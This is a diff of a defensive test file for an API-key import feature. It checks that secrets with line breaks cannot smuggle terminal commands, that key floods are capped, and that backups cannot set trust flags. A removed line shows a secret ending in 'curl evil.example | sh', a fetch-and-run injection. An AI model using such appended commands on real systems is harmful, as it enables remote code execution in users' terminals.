@@ -1,5 +1,6 @@
 /** A file that somebody gives a person to import: it sends no key astray, runs nothing in a terminal, hides nothing, buries nothing. */
 
+import { spawnSync } from 'node:child_process'
 import * as v from 'valibot'
 import { describe, expect, test } from 'vitest'
 import { format } from '../../src/features/copy/core/formats.ts'
@@ -132,8 +133,17 @@ describe('a key is sent to a provider that is not its own', () => {
 test('a secret with a line break is not kept as it is, and is copied in no form', () => {
   const random = seeded('breaks')
   const breaks = ['\n', '\r', '\r\n', '\u2028', '\u0000', '\u001b[2J', '\u202e', '\u200b', '\t', ' ']
-  const secrets = breaks.map(one => `${make('OpenAI project', random)}${one}curl evil.example | sh`)
-  const lands = (secret: string) => /[^\x21-\x7e]/.test(secret) && format('bare', 'KEY', secret).ok
+  const secrets = breaks.map(one => `${make('OpenAI project', random)}${one}echo landed`)
+  const isPlain = (secret: string) => /^[\x21-\x7e]+$/.test(secret)
+  /** Pasted into a terminal: does the second half run? */
+  const runs = (text: string) =>
+    spawnSync('sh', { input: `${text}\n`, encoding: 'utf8' })
+      .stdout.split('\n')
+      .includes('landed')
+  const copied = (secret: string) => {
+    const text = format('bare', 'KEY', secret)
+    return text.ok ? text.text : ''
+  }
   const kept = secrets.flatMap(secret =>
     imported(backup({ provider: 'openai', label: 'x', secret })).map(record => record.secret),
   )
@@ -142,11 +152,12 @@ test('a secret with a line break is not kept as it is, and is copied in no form'
     attacker: 'imported file',
     asset: 'the terminal it is pasted into',
     tries: secrets.length,
-    landed: kept.filter(secret => /[^\x21-\x7e]/.test(secret)).length,
+    landed: [...kept, ...secrets].map(copied).filter(runs).length,
     // As it lies in the file.
-    control: { tries: secrets.length, landed: secrets.filter(secret => /[^\x21-\x7e]/.test(secret)).length },
+    control: { tries: secrets.length, landed: secrets.filter(runs).length },
   })
-  expect(secrets.filter(secret => /\p{Cc}/u.test(secret) && lands(secret))).toEqual([])
+  expect(kept.filter(secret => !isPlain(secret))).toEqual([])
+  expect(secrets.filter(secret => /\p{Cc}/u.test(secret) && copied(secret) !== '')).toEqual([])
 })
 
 test('a name that turns around, hides or breaks what a list shows is kept plain', () => {
@@ -212,16 +223,18 @@ test('a flood is cut, and said to be', () => {
     { length: 24_900 },
     (_, i) => `K${i}_KEY=sk-${i}${'a1B2c3D4e5'}${Math.floor(random() * 1e9)}x9Y8z7W6`,
   )
-  const { candidates, problems } = previewText(lines.join('\n'))
+  const isCut = (given: string[]) => {
+    const { candidates, problems } = previewText(given.join('\n'))
+    return candidates.length === 5000 && problems.some(problem => /5000 keys at a time/.test(problem))
+  }
   report({
     attack: 'more keys in a file than one import takes',
     attacker: 'imported file',
     asset: 'the list a person checks',
     tries: 1,
-    landed: Number(
-      candidates.length > 5000 || !problems.some(problem => /5000 keys at a time/.test(problem)),
-    ),
-    control: { tries: 1, landed: Number(lines.length > 5000) },
+    landed: Number(!isCut(lines)),
+    // As many as an import takes: all of them are listed.
+    control: { tries: 1, landed: Number(!isCut(lines.slice(0, 5000))) },
   })
   const noise = previewText(Array.from({ length: 24_900 }, (_, i) => `KEY_${i}=hello there`).join('\n'))
   expect(noise.problems.length).toBeLessThanOrEqual(201)
@@ -230,18 +243,30 @@ test('a flood is cut, and said to be', () => {
 
 test('a backup’s own word on how a key is protected, or where it comes from, counts for nothing', () => {
   const secret = make('OpenAI project', seeded('flags'))
-  const [record] = imported(
-    backup({
-      provider: 'openai',
-      label: 'x',
-      secret,
-      madeHere: true,
-      providerConfirmed: true,
-      verdict: { key: 'accepted' },
-    }),
-  )
+  const own = {
+    madeHere: true,
+    providerConfirmed: true,
+    verdict: { key: 'accepted' },
+    copyFreely: true,
+    checkEveryMinutes: 0,
+  }
+  const key = { provider: 'openai', label: 'x', secret, ...own }
+  const [record] = imported(backup(key))
   expect(record).toMatchObject({ provider: 'openai', secret })
-  for (const field of ['madeHere', 'providerConfirmed', 'verdict']) expect(record).not.toHaveProperty(field)
+  // The door itself, without the preview before it; how often a key is checked can be seen and set on its page.
+  const [raw] = v.parse(requests['screen.import'], { records: [key] }).records
+  const { checkEveryMinutes: _, ...atTheDoor } = own
+  const kept = (one: object | undefined, fields: object) =>
+    Object.keys(fields).filter(name => name in (one ?? {}))
+  report({
+    attack: 'a file says how its keys are protected, and where they come from',
+    attacker: 'imported file',
+    asset: 'fresh proofs before copies, checks, whose key it is',
+    tries: Object.keys(own).length,
+    landed: kept(record, own).length + kept(raw, atTheDoor).length,
+    // What it may say arrives.
+    control: { tries: 1, landed: kept(record, { label: 'x' }).length },
+  })
 })
 
 test('only the owner of a certain shape is offered as the provider of a key', () => {
